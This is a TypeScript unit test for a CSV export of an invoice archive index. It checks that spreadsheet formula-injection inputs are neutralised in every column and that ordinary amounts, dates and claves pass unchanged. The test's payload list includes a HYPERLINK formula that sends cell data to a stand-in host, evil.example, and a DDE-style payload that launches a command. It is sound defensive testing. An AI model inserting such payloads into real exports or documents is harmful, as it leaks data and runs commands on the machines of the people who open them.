/** index.csv of an export: no cell a spreadsheet would run as a formula, whichever column it is in. */
import { describe, expect, it } from 'vitest';
import { csvLine, INDEX_COLUMNS, type IndexRow } from '../../../src/archive/export-index.ts';

const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3', '\t=1+1', '\r=1+1'];

describe('csvLine', () => {
  it('neutralises a formula in every column, not only the names', () => {
    for (const payload of PAYLOADS) {
      const row = Object.fromEntries(INDEX_COLUMNS.map((column) => [column, payload])) as IndexRow;
      const cells = parseLine(csvLine(row));
      expect(cells).toHaveLength(INDEX_COLUMNS.length);
      for (const [index, cell] of cells.entries()) expect(cell, `${INDEX_COLUMNS[index]}: ${payload}`).toBe(`'${payload}`);
    }
  });

  it('leaves ordinary values as they are (amounts, dates, claves)', () => {
    const row = Object.fromEntries(INDEX_COLUMNS.map((column) => [column, null])) as IndexRow;
    Object.assign(row, { clave: '50615062500310112345600100099010000000001110000001', issued_at: '2025-06-15T10:30:00-06:00', total_amount: '113000.00000', issuer_name: 'Tienda "La Esquina", S.A.' });
    const cells = parseLine(csvLine(row));
    expect(cells[INDEX_COLUMNS.indexOf('clave')]).toBe(row.clave);
    expect(cells[INDEX_COLUMNS.indexOf('issued_at')]).toBe(row.issued_at);
    expect(cells[INDEX_COLUMNS.indexOf('total_amount')]).toBe('113000.00000');
    expect(cells[INDEX_COLUMNS.indexOf('issuer_name')]).toBe('Tienda "La Esquina", S.A.');
  });
});

/** RFC 4180 fields of one CRLF-terminated line. */
function parseLine(line: string): string[] {
  expect(line.endsWith('\r\n')).toBe(true);
  const text = line.slice(0, -2);
  const cells: string[] = [];
  let index = 0;
  while (index <= text.length) {
    if (text[index] === '"') {
      let value = '';
      index++;
      for (;;) {
        const quote = text.indexOf('"', index);
        value += text.slice(index, quote);
        if (text[quote + 1] === '"') { value += '"'; index = quote + 2; } else { index = quote + 1; break; }
      }
      cells.push(value);
      index++; // the comma
    } else {
      const comma = text.indexOf(',', index);
      const end = comma === -1 ? text.length : comma;
      cells.push(text.slice(index, end));
      index = end + 1;
    }
  }
  return cells;
}
